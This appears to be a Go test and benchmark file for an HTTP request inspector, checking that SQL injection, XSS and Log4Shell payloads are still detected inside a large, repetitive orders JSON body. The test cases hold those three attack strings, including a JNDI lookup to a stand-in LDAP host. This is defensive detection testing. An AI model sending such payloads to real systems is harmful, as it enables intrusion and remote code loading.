package threat

import (
	"fmt"
	"strings"
	"testing"
)

// ordersJSON is a page of an orders API: every object repeats its keys and many values; with
// same, the objects are identical.
func ordersJSON(n int, extra string, same ...bool) []byte {
	var b strings.Builder
	b.WriteString(`{"object":"list","data":[`)
	for i := range n {
		if i > 0 {
			b.WriteByte(',')
		}
		if len(same) > 0 && same[0] {
			i = 0
		}
		fmt.Fprintf(&b, `{"id":"ord_%d","status":"shipped","customer":{"name":"Lena Schmidt","email":"lena.schmidt@example.org",`+
			`"address":{"line1":"%d Main Street","city":"Berlin","country":"DE"}},"items":[{"sku":"SN-0815","name":"Trail running shoes",`+
			`"quantity":%d,"unitPrice":{"amount":2400,"currency":"EUR"},"options":{"size":"M","color":"navy"}}],"notes":"Leave at the front desk, please."}`,
			100000+i, i%200, 1+i%3)
	}
	b.WriteString(`]` + extra + `}`)
	return []byte(b.String())
}

func jsonRequest(body []byte) *HTTPRequest {
	return &HTTPRequest{Method: []byte("POST"), URI: []byte("/api/orders"), Proto: []byte("HTTP/1.1"),
		Headers: []Header{{Name: []byte("Host"), Value: []byte("api")}, {Name: []byte("Content-Type"), Value: []byte("application/json")}},
		Body:    body}
}

// A string checked once and found clean is not checked again in the same body, so a document
// that repeats its keys and values costs what its distinct strings cost; an attack is still
// found wherever it sits, also repeated in a key or value that was clean before.
func TestJSONBodyRepeatedStrings(t *testing.T) {
	h, err := NewHTTP(HTTPConfig{})
	if err != nil {
		t.Fatal(err)
	}
	clean := jsonRequest(ordersJSON(150, ""))
	if f := h.Inspect(clean, nil); len(f) != 0 {
		t.Fatalf("benign orders page: %+v", f)
	}
	for _, c := range []struct{ extra, want string }{
		{`,"notes":"1' OR '1'='1"`, SQLi},
		{`,"name":"<script>alert(1)</script>"`, XSS},
		{`,"Trail running shoes":"${jndi:ldap://x.example/a}"`, Log4Shell},
	} {
		f := h.Inspect(jsonRequest(ordersJSON(150, c.extra)), nil)
		if len(f) == 0 || f[0].Detector != c.want {
			t.Errorf("attack after 150 clean objects %s: findings %+v, want %s", c.extra, f, c.want)
		}
	}
	// Cost: 100 identical objects allocate what one does.
	small, big := jsonRequest(ordersJSON(1, "")), jsonRequest(ordersJSON(100, "", true))
	a1 := testing.AllocsPerRun(20, func() { h.Inspect(small, nil) })
	a100 := testing.AllocsPerRun(20, func() { h.Inspect(big, nil) })
	if a100 > a1+5 {
		t.Errorf("allocations per request: %.0f for one object, %.0f for 100 identical ones (repeated strings are checked again)", a1, a100)
	}
}

func BenchmarkHTTPInspectJSON(b *testing.B) {
	h, err := NewHTTP(HTTPConfig{})
	if err != nil {
		b.Fatal(err)
	}
	r := jsonRequest(ordersJSON(170, "")) // ~63 KB: all of it inspected (MaxBody)
	b.SetBytes(int64(len(r.Body)))
	b.ReportAllocs()
	for b.Loop() {
		h.Inspect(r, nil)
	}
}
